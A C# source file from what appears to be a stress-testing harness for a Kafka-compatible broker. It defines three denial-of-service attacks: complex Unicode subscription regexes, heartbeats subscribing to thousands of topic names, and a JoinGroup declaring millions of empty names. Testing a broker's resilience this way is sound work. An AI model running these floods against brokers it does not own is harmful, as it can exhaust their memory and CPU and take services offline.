using CrashStreams.Broker.Attacks.Wire;
using CrashStreams.Protocol.Messages;

namespace CrashStreams.Broker.Attacks.Attacks;

/// <summary>Patterns of many different characters and classes, which engines that know all of Unicode take long and much memory for; each in a group of its own.</summary>
internal sealed class ColourfulPatterns : Attack
{
    public override string Name => "characters";

    public override string Description => "subscriptions with regular expressions of hundreds of different characters and classes, each in another group";

    public override async Task RoundAsync(Target target, CancellationToken stop)
    {
        using var client = await AttackClient.ConnectAsync(target, stop);
        for (var i = 0; i < 20; i++)
            await client.AskAsync<ConsumerGroupHeartbeatRequest, ConsumerGroupHeartbeatResponse>(new()
            {
                GroupId = $"c{Random.Shared.Next(10_000)}",
                MemberId = $"m{i}",
                RebalanceTimeoutMs = 1000,
                SubscribedTopicRegex = i % 2 == 0
                    ? string.Concat(Enumerable.Range(0, 300).Select(c => (char)(0x400 + i + c * 13)))
                    : string.Concat(Enumerable.Range(0, 100).Select(c => $"[{(char)(0x400 + c * 7)}-{(char)(0x404 + i + c * 7)}]*")),
                TopicPartitions = [],
            }, stop: stop);
    }
}

/// <summary>One member that subscribes to thousands of other names with each heartbeat.</summary>
internal sealed class FickleMember(int names = 10_000) : Attack
{
    public override string Name => "fickle";

    public override string Description => $"members that subscribe to {names} other names with each heartbeat";

    public override async Task RoundAsync(Target target, CancellationToken stop)
    {
        using var client = await AttackClient.ConnectAsync(target, stop);
        var group = $"f{Random.Shared.Next(8)}";
        for (var i = 0; i < 20; i++)
        {
            var first = Random.Shared.Next(1_000_000);
            await client.AskAsync<ConsumerGroupHeartbeatRequest, ConsumerGroupHeartbeatResponse>(new()
            {
                GroupId = group,
                MemberId = "m",
                RebalanceTimeoutMs = 1000,
                SubscribedTopicNames = [.. Enumerable.Range(first, names).Select(name => $"topic-{name}")],
                TopicPartitions = [],
            }, stop: stop);
        }
    }
}

/// <summary>Classic members whose subscriptions name millions of topics without a name.</summary>
internal sealed class EmptySubscriptions(int bytes = 4_000_000) : Attack
{
    public override string Name => "subscriptions";

    public override string Description => $"JoinGroup with a subscription of {bytes / 2} empty names";

    public override async Task RoundAsync(Target target, CancellationToken stop)
    {
        using var client = await AttackClient.ConnectAsync(target, stop);
        var subscription = new byte[6 + bytes];
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(subscription.AsSpan(2), bytes / 2);
        await client.AskAsync<JoinGroupRequest, JoinGroupResponse>(new()
        {
            GroupId = $"s{Random.Shared.Next(10)}",
            SessionTimeoutMs = 10_000,
            RebalanceTimeoutMs = 10_000,
            ProtocolType = "consumer",
            Protocols = [new() { Name = "range", Metadata = subscription }],
        }, version: 3, stop);
    }
}
